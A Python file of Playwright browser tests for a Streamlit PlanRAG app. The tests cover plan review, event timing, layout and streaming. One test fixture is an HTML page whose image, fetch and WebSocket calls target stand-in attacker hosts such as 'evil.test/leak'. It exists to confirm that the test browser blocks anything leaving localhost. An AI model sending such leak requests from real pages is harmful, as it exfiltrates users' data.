"""End to end in headless Chromium, offline: ``streamlit run app.py`` on a free localhost port; pick DQA Locating
question 1 on Scenarios; run PlanRAG from a replay (tests/transcripts/locating_sql_planrag_replan_edit.json) with
approve-replans; edit a step of the re-plan and approve it; finish; open the Decision check.

Events are shown as they happen: the run's final reply is held back (a gate the test opens) until the browser
shows the event before it. Prints two figures (no timed assertion): the time from the server answering its health
check to the first page rendered (target <= 2 s), and the delay from the agent emitting an event (its ``at``) to
its element appearing in the browser (seen by a MutationObserver at the next animation frame; target <= 300 ms).
Replies are paced at PACE_S, as a model would take, so the page can be seen mid-run. Its screenshots go to a temporary folder, or to PLANRAG_SCREENSHOTS
(the README's are taken with PLANRAG_SCREENSHOTS=docs/screenshots)."""
from __future__ import annotations

import contextlib
import functools
import json
import os
import shutil
import socket
import statistics
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

from core.store.runs import RunStore
from tests.browser import CHROMIUM_ARGS, outside_attempts
from tests.conftest import require

ROOT = Path(__file__).resolve().parent.parent
CHROMIUM = Path("/usr/bin/chromium")
TRANSCRIPT = Path(__file__).parent / "transcripts" / "locating_sql_planrag_replan_edit.json"
EDITED_STEP = ('Compute for krakow and novgorod the value "SWE" would steer to "baltic_sea", counting the inland bonus '
               'of krakow')  # the re-plan's step 2 as the analyst rewrites it (the transcript follows it)
PACE_S = 0.4
WAIT_MS = 60_000  # a hang guard for the browser's waits, never a speed target

# `streamlit run` with replayed replies paced like a model's (test only: the product replays at once); the final
# answer waits until the file PLANRAG_TEST_GATE/open exists (PLANRAG_TEST_GATE/waiting says it is waiting).
PACED_STREAMLIT = f"""
import os, sys, time
from pathlib import Path
import core.llm.replay_model as replay_model
generate = replay_model.ReplayChatModel._generate
gate = Path(os.environ["PLANRAG_TEST_GATE"])
def paced(self, *args, **kwargs):
    time.sleep({PACE_S})
    result = generate(self, *args, **kwargs)
    if "Final answer" in result.generations[0].message.content:
        (gate / "waiting").touch()
        deadline = time.time() + 120
        while not (gate / "open").exists() and time.time() < deadline:
            time.sleep(0.05)
    return result
replay_model.ReplayChatModel._generate = paced
from streamlit.web.cli import main
sys.argv[0] = "streamlit"
main()
"""

# Records, per event element (a container keyed ev-RUN-N), the first animation frame it is in the page.
OBSERVER = """
window.__seen = {};
new MutationObserver(records => {
  for (const record of records) for (const node of record.addedNodes) {
    if (!(node instanceof Element)) continue;
    const found = [node, ...node.querySelectorAll('[class*="st-key-ev-"]')];
    for (const el of found) for (const c of el.classList) {
      if (c.startsWith('st-key-ev-') && !(c in window.__seen)) {
        window.__seen[c] = null;
        requestAnimationFrame(() => { window.__seen[c] = Date.now(); });
      }
    }
  }
}).observe(document, {childList: true, subtree: true});
"""


def echoes_of(events: list[dict]) -> set[int]:
    """The numbers (1-based) of the events the page shows nothing for: the echoes of Self-thinking actions."""
    return {n for n, (action, e) in enumerate(zip(events, events[1:]), 2)
            if action["kind"] == "action" and action["language"] == "self"}


# Watches the element container of the element it is given: ``window.__redrawn`` turns true once a run of the page has
# marked it stale (Streamlit marks every element of a whole run stale until that run draws it again; a fragment's run
# marks only its own) or replaced it.
REDRAW_WATCH = """el => {
  const box = el.closest('[data-testid="stElementContainer"]');
  window.__box = box;
  window.__stale = false;
  new MutationObserver(() => { if (box.getAttribute('data-stale') === 'true') window.__stale = true; })
    .observe(box, {attributes: true, attributeFilter: ['data-stale']});
}"""
REDRAWN = """() => (window.__stale || !window.__box.isConnected)
  && document.querySelector('[data-testid="stApp"]').getAttribute('data-test-script-state') === 'notRunning'"""


def after_its_run(page, act, drawn) -> None:
    """``act()`` (a click on a widget that reruns the page), then wait until a whole run of the page has drawn
    ``drawn`` (a locator of an element the page draws outside any fragment, on screen before ``act``) again and
    ended: the page then shows what that run drew, not a stale element of the run before. Counting script runs is not
    enough: a fragment's timer (the inbox checks every 2 s) runs too, and its end was taken for the click's (failed
    at load 2, 1 in 1)."""
    drawn.first.evaluate(REDRAW_WATCH)
    act()
    page.wait_for_function(REDRAWN, timeout=WAIT_MS)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def approve_as(page, reviewer: str) -> None:
    """Approve the plan the run waits with, as proposed, on ``page`` as ``reviewer`` (this session's first review:
    the name typed first). Until the rerun for the name ends, the disabled button of the run before may stand beside
    the new one (Streamlit keeps stale elements until the script finishes): the one usable button is waited for."""
    from playwright.sync_api import expect

    name = page.get_by_role("textbox", name="Your name, recorded with your review")
    name.fill(reviewer)
    name.press("Enter")
    page.get_by_text(f"you review as {reviewer}").wait_for()
    approve = page.get_by_role("button", name="Approve as proposed")
    expect(approve).to_have_count(1)
    expect(approve).to_be_enabled()
    approve.click()


def wait_healthy(url: str, process: subprocess.Popen, timeout: float = WAIT_MS / 1000) -> float:
    """When the server first answered its health check (time.time())."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        assert process.poll() is None, "streamlit exited before serving"
        try:
            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=1) as r:
                if r.status == 200:
                    return time.time()
        except OSError:
            time.sleep(0.05)
    raise AssertionError(f"streamlit did not answer at {url} within {timeout} s")


@pytest.fixture
def chromium():
    if not CHROMIUM.exists():
        require("browser", f"Chromium not found at {CHROMIUM} (install Debian's chromium package)")
    from playwright.sync_api import expect, sync_playwright

    # Every wait is for a condition; its bound only guards against a hang, so it is generous for a loaded machine
    # (expect()'s 5 s default was passed mid-run on a 2-core machine running several suites at once).
    expect.set_options(timeout=WAIT_MS)

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        _waiting_as_long(browser)
        yield browser
        browser.close()


def _waiting_as_long(browser) -> None:
    """Every context and page ``browser`` opens waits up to WAIT_MS for an action (a click, a wait for an element),
    as expect() does, instead of Playwright's 30 s (passed at load 13-20 by a run's end before its button)."""
    new_context, new_page = browser.new_context, browser.new_page

    def waiting_context(*args, **kwargs):
        context = new_context(*args, **kwargs)
        context.set_default_timeout(WAIT_MS)
        return context

    def waiting_page(*args, **kwargs):
        page = new_page(*args, **kwargs)
        page.context.set_default_timeout(WAIT_MS)
        page.set_default_timeout(WAIT_MS)
        return page

    browser.new_context, browser.new_page = waiting_context, waiting_page


@pytest.fixture
def server(tmp_path, dqa_dir):
    """The app's URL, its process and its data home; replays from a folder holding the test transcript."""
    replays = tmp_path / "replays"
    replays.mkdir()
    shutil.copy(TRANSCRIPT, replays / "dqa_locating_1_sql_planrag.json")
    home = tmp_path / "home"
    env = {k: v for k, v in os.environ.items() if not k.startswith("OPENAI_")}
    gate = tmp_path / "gate"
    gate.mkdir()
    env.update(PLANRAG_HOME=str(home), PLANRAG_REPLAYS=str(replays), DQA_DIR=str(dqa_dir), PLANRAG_TEST_GATE=str(gate))
    with app_server(PACED_STREAMLIT, env, tmp_path / "server.log") as (url, process):
        yield url, process, home


@contextlib.contextmanager
def app_server(launcher: str, env: dict, log_path: Path):
    """The app started by the Python source ``launcher`` (which ends by calling Streamlit's CLI) on a free port of
    127.0.0.1 with ``env``, its output to ``log_path``: (its URL, its process); terminated after."""
    port = free_port()
    with log_path.open("w") as log:
        process = subprocess.Popen(
            [sys.executable, "-c", launcher, "run", "app.py", "--server.port", str(port),
             "--server.address", "127.0.0.1", "--server.headless", "true", "--browser.gatherUsageStats", "false"],
            cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
        try:
            yield f"http://127.0.0.1:{port}", process
        finally:
            process.terminate()
            process.wait(120)  # a hang guard: a loaded machine may take a while to stop a server


PAGE_REACHING_OUT = """<!doctype html><img src="https://evil.test/pixel.png"><script>
window.tries = Promise.all([
  ...['http://203.0.113.9/leak', 'https://evil.test/leak', '/here'].map(u =>
    fetch(u).then(() => 'reached ' + u, () => 'refused ' + u)),
  new Promise(done => { const ws = new WebSocket('wss://evil.test/ws');
                        ws.onopen = () => done('reached ws'); ws.onerror = () => done('refused ws'); })]);
</script>"""


def test_the_browser_reaches_nothing_outside_and_each_try_is_seen(chromium, tmp_path):
    """What the tests' "nothing leaves localhost" rests on (tests/browser.py): a page's image, fetches (by name and
    by address) and WebSocket to the outside are each refused and each seen; the page's own server is reached."""
    import http.server
    import threading

    (tmp_path / "index.html").write_text(PAGE_REACHING_OUT)
    (tmp_path / "here").write_text("ok")
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args) -> None:  # no access lines in the test's output
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(tmp_path))) as local:
        threading.Thread(target=local.serve_forever, daemon=True).start()
        context = chromium.new_context()
        attempted = outside_attempts(context)
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{local.server_port}/index.html")
        tries = page.evaluate("window.tries")
        page.wait_for_function("document.images[0].complete")
        context.close()
        local.shutdown()
    assert tries == ["refused http://203.0.113.9/leak", "refused https://evil.test/leak", "reached /here",
                     "refused ws"]
    assert sorted(attempted) == ["http://203.0.113.9/leak", "https://evil.test/leak", "https://evil.test/pixel.png",
                                 "wss://evil.test/ws"]


def test_run_with_an_edited_replan_in_the_browser(chromium, server, tmp_path):
    from playwright.sync_api import expect

    url, process, home = server
    context = chromium.new_context(viewport={"width": 1600, "height": 1200})
    attempted = outside_attempts(context)
    context.add_init_script(OBSERVER)
    page = context.new_page()
    page.set_default_timeout(WAIT_MS)
    shots = Path(os.environ.get("PLANRAG_SCREENSHOTS") or tmp_path)
    shots.mkdir(parents=True, exist_ok=True)

    up = wait_healthy(url, process)
    page.goto(url)
    page.get_by_role("heading", name="Scenarios").wait_for()
    first_render = time.time() - up

    page.get_by_role("radio", name="DQA benchmark").click()
    page.get_by_text('Our home node is "baltic_sea"').first.wait_for()  # Locating question 1
    page.get_by_role("link", name="Run", exact=True).click()
    page.get_by_role("heading", name="Run").wait_for()
    page.get_by_text("Approve re-plans").click()
    expect(page.get_by_role("combobox", name="LLM")).to_have_value("Replay · dqa_locating_1_sql_planrag.json")
    page.get_by_role("button", name="Start").click()

    timeline = page.locator('[class*="st-key-timeline-"]')
    expect(timeline.locator("code").first).to_contain_text("SELECT")
    page.screenshot(path=shots / "run-first-query.png")  # the README's mid-run shot: bench/screenshots.py

    approve_edited = page.get_by_role("button", name="Approve edited")
    approve_edited.wait_for()
    # Once the run's thread has ended, the inbox's check sees one more run waiting and draws the page again (this
    # run's form included): that rerun is waited for, so no stale copy of the form stands beside the new one below
    # (two "Plan step" boxes: failed in CI at load 6, 1 in 1).
    expect(page.get_by_text("Inbox: 1 waiting for review")).to_be_visible()
    page.get_by_text("The agent wants to change its plan").scroll_into_view_if_needed()
    page.screenshot(path=shots / "run-pause.png")
    name = page.get_by_role("textbox", name="Your name, recorded with your review")  # this session's first review
    name.fill("Ana Costa")
    after_its_run(page, lambda: name.press("Enter"), approve_edited)  # the form drawn again for the name
    page.get_by_text("you review as Ana Costa").wait_for()
    expect(approve_edited).to_have_count(1)
    expect(approve_edited).to_be_enabled()
    step_2 = page.locator('[class*="-step-1"] input[aria-label="Plan step"]')  # not the branch form's Step box
    step_2.fill(EDITED_STEP)
    approve_edited.click()  # as an analyst would: type, then click (the box sends its text as it loses focus)

    # The run holds its final answer back until the browser has shown every event before it: shown as they happen.
    deadline = time.time() + 120  # guards against a hang only
    while not (tmp_path / "gate" / "waiting").exists() and time.time() < deadline and process.poll() is None:
        page.wait_for_timeout(50)  # lets Playwright go on taking the page's events meanwhile
    [so_far] = RunStore(home / "runs.sqlite").export()
    assert so_far["status"] == "running" and not any(e["kind"] == "final" for e in so_far["events"])
    shown = [n for n, e in enumerate(so_far["events"], 1) if n not in echoes_of(so_far["events"])]
    page.locator(f'[class*="st-key-ev-{so_far["id"]}-{shown[-1]}"]').first.wait_for()
    (tmp_path / "gate" / "open").touch()

    check = page.get_by_role("button", name="Check the decision")
    check.wait_for()
    page.get_by_text("Final answer:").first.wait_for()
    check.evaluate("e => e.scrollIntoView({block: 'center'})")  # the outcome in view, whatever the page scrolled to
    page.screenshot(path=shots / "run-finished.png")
    seen = page.evaluate("window.__seen")

    [run] = RunStore(home / "runs.sqlite").export()
    assert run["status"] == "finished" and run["outcome"]["decision"] == "krakow" and run["outcome"]["correct"]
    edit = next(e for e in run["events"] if e["kind"] == "plan" and e["origin"] == "analyst")
    assert edit["status"] == "edited" and edit["steps"][1] == EDITED_STEP

    check.click()
    page.get_by_role("heading", name="Decision check").wait_for()
    page.get_by_text(run["id"]).first.wait_for()  # the agent's pick, from this run
    assert attempted == [], f"requests beyond localhost were attempted: {attempted}"

    events = run["events"]

    def key(n: int) -> str:  # the class of the n-th event's element
        return f"st-key-ev-{run['id']}-{n}"

    echoes = echoes_of(events)
    missing = [(n, e["kind"]) for n, e in enumerate(events, 1) if n not in echoes and not seen.get(key(n))]
    assert not missing, f"events that never appeared in the browser: {missing}"
    delays = [seen[key(n)] - e["at"] * 1000 for n, e in enumerate(events, 1) if n not in echoes]
    print(f"\nfirst page rendered {first_render:.2f} s after the server was up (target <= 2 s)")
    print(f"event -> browser delay over {len(delays)} events: median {statistics.median(delays):.0f} ms, "
          f"max {max(delays):.0f} ms (target <= 300 ms)")
    print(json.dumps({"first_render_s": round(first_render, 3), "event_delay_ms": [round(d) for d in delays]}))


def test_deep_link_on_a_fresh_server_uses_the_app_navigation(chromium, server):
    """The first visit of a new server may be a deep link: it gets app.py's menu and page, not pages/ files."""
    from playwright.sync_api import expect

    url, process, _ = server
    wait_healthy(url, process)
    page = chromium.new_page()
    page.goto(f"{url}/benchmark")
    expect(page.get_by_role("heading", name="Benchmark")).to_be_visible()
    nav = page.get_by_test_id("stSidebarNav")
    expect(nav.get_by_text("Learned plans")).to_be_visible()
    expect(nav.get_by_text("run view")).to_have_count(0)
    page.close()


def test_plugin_scenario_in_the_browser(chromium, server, tmp_path):
    """The shipped depot plugin on the Scenarios page: its road network is drawn and its tables listed."""
    from playwright.sync_api import expect

    url, process, _ = server
    wait_healthy(url, process)
    page = chromium.new_page(viewport={"width": 1600, "height": 1200})
    page.goto(url)  # the Scenarios page is the app's root (/scenarios is no page of the router: "Page not found")
    expect(page.get_by_role("heading", name="Scenarios")).to_be_visible(timeout=30_000)
    page.get_by_text("Distribution centre", exact=True).click()
    expect(page.get_by_text("weekly cost in winter").first).to_be_visible(timeout=30_000)
    expect(page.locator(".js-plotly-plot")).to_have_count(1, timeout=30_000)
    shots = Path(os.environ.get("PLANRAG_SCREENSHOTS") or tmp_path)
    page.screenshot(path=shots / "scenarios-depot.png")
    page.get_by_role("tab", name="Tables").click()
    expect(page.get_by_role("radio", name="town (16)")).to_be_visible()  # one table at a time
    page.close()


def test_dqa_trade_network_reads_at_a_glance_in_the_browser(chromium, server):
    """DQA Locating q1 opens on the decision's neighbourhood with labels of 12 px or more; the whole network is one
    click away; finding a node by name centres the view on it."""
    from playwright.sync_api import expect

    url, process, _ = server
    wait_healthy(url, process)
    page = chromium.new_page(viewport={"width": 1440, "height": 900})
    page.goto(url)  # the Scenarios page is the app's root (/scenarios is no page of the router: "Page not found")
    expect(page.get_by_role("heading", name="Scenarios")).to_be_visible(timeout=30_000)
    page.get_by_role("radio", name="DQA benchmark").click()
    expect(page.get_by_text("The neighbourhood of baltic sea (SWE's home)")).to_be_visible()
    labels = page.locator(".js-plotly-plot .scatterlayer .textpoint text")
    expect(labels.filter(has_text="baltic sea")).to_have_count(1)
    sizes = labels.evaluate_all("ts => ts.map(t => parseFloat(getComputedStyle(t).fontSize))")
    names = labels.all_text_contents()
    assert 5 < len(names) < 79 and min(sizes) >= 12, (names, sizes)
    page.get_by_role("radio", name="Whole network").click()
    expect(page.get_by_text("The whole network: 80 trade nodes.")).to_be_visible()
    expect(labels).to_have_count(80)
    page.get_by_role("combobox", name="Find a node (80)").click()
    page.keyboard.type("gujarat")
    page.get_by_role("option", name="gujarat").click()
    expect(page.get_by_text("The neighbourhood of gujarat:")).to_be_visible()
    expect(page.get_by_role("radio", name="Neighbourhood")).to_be_checked()
    page.close()


def test_the_correct_metric_of_a_run_with_no_answer_is_not_cut_at_1600_px(chromium, server):
    """Issue 29: the Run page's "Correct" metric read "not answ..." at 1600 px. A stuck run that gave no answer
    (the loop's transcript), opened by its link: every metric value fits its box."""
    from playwright.sync_api import expect

    from core.agents.runtime import AgentRuntime
    from core.model.run_settings import RunSettings

    url, process, home = server
    runtime = AgentRuntime(home)
    loop = ROOT / "tests" / "transcripts" / "guards" / "locating_sql_iterrag_loop.json"
    result = runtime.start(RunSettings("locating", 1, "sqlite", "iterrag", f"replay:{loop}"))
    runtime.close()
    assert result.status == "stuck" and result.outcome.correct is None
    wait_healthy(url, process)
    page = chromium.new_page(viewport={"width": 1600, "height": 1200})
    page.goto(f"{url}/run?run={result.run_id}")
    values = page.get_by_test_id("stMetricValue")
    expect(values.filter(has_text="not answered")).to_have_count(1)
    cut = page.evaluate("""() => [...document.querySelectorAll('[data-testid="stMetricValue"]')]
        .flatMap(v => [v, ...v.querySelectorAll('*')])
        .filter(e => e.scrollWidth > e.clientWidth + 1).map(e => e.textContent)""")
    assert cut == [], cut
    page.close()


PLAIN_STREAMLIT = """
import sys
from streamlit.web.cli import main
sys.argv[0] = "streamlit"
main()
"""
STREAM_MARK = "Zanzibarquux"  # a word of the streamed reply's first piece, found nowhere else on the page
STREAM_OBSERVER = """
window.__streamSeen = null;
new MutationObserver(() => {
  if (window.__streamSeen === null && document.body && document.body.innerText.includes('%s')) {
    window.__streamSeen = Date.now();
  }
}).observe(document, {childList: true, subtree: true, characterData: true});
""" % STREAM_MARK


def test_the_reply_streams_into_the_step_panel(chromium, tmp_path, dqa_dir):
    """Issue 29 section 1: a run of a model that streams (a stub server) shows the reply as it is written. The
    server sends the first words, then holds the rest until the browser shows them. Prints how long after the
    server sent them the words showed (no timed assertion; target <= 0.5 s)."""
    from tests.streaming_stub import StreamingStub

    first = (f"Plan: [Step 1: list the nodes, Step 2: choose]\nCurrent step: Step 1: list the nodes\nThought: "
             f"{STREAM_MARK} look at the nodes ")
    act = '\nAction: Relational DB\nAction input: SELECT trade_node FROM trade_node WHERE trade_node = "krakow"'
    stub = StreamingStub([[first, act], ["Re-plan: N\nThought: I now ", "know the answer.\nFinal answer: krakow"]])
    env = {k: v for k, v in os.environ.items() if not k.startswith("OPENAI_")}
    env.update(PLANRAG_HOME=str(tmp_path / "home"), DQA_DIR=str(dqa_dir), OPENAI_MODEL="stand-in",
               OPENAI_BASE_URL=stub.url)
    try:
        with app_server(PLAIN_STREAMLIT, env, tmp_path / "server.log") as (url, process):
            wait_healthy(url, process)
            context = chromium.new_context(viewport={"width": 1600, "height": 1200})
            context.add_init_script(STREAM_OBSERVER)
            page = context.new_page()
            page.set_default_timeout(WAIT_MS)
            page.goto(url)
            page.get_by_role("heading", name="Scenarios").wait_for()
            page.get_by_role("radio", name="DQA benchmark").click()
            page.get_by_text('Our home node is "baltic_sea"').first.wait_for()
            page.get_by_role("link", name="Run", exact=True).click()
            page.get_by_role("heading", name="Run").wait_for()
            page.get_by_role("button", name="Start").click()
            page.wait_for_function("window.__streamSeen !== null", timeout=WAIT_MS)
            shown_at = page.evaluate("window.__streamSeen") / 1000
            sent_at = stub.sent[0][0]
            assert not any(piece == act for _, piece in stub.sent)  # shown while the rest was held back
            page.get_by_text("(LLM call 1, attempt 1 of ").first.wait_for()  # the status line names the call
            stub.release.set()
            page.get_by_text("Final answer:").first.wait_for()  # streamed: the run is stored finished just after
            store = RunStore(tmp_path / "home" / "runs.sqlite")
            deadline = time.monotonic() + WAIT_MS / 1000  # a hang guard
            while (run := store.export()[0])["status"] == "running" and time.monotonic() < deadline:
                time.sleep(0.05)
            context.close()
    finally:
        stub.close()
    assert run["status"] == "finished" and run["outcome"]["decision"] == "krakow"
    thought = next(e for e in run["events"] if e["kind"] == "thought")  # the events are of the finished reply
    assert STREAM_MARK in thought["text"] and next(e for e in run["events"] if e.get("llm"))["llm"]["reply"] == (
        first + act)
    print(f"\nstreamed words shown {shown_at - sent_at:.2f} s after the server sent them (target <= 0.5 s)")
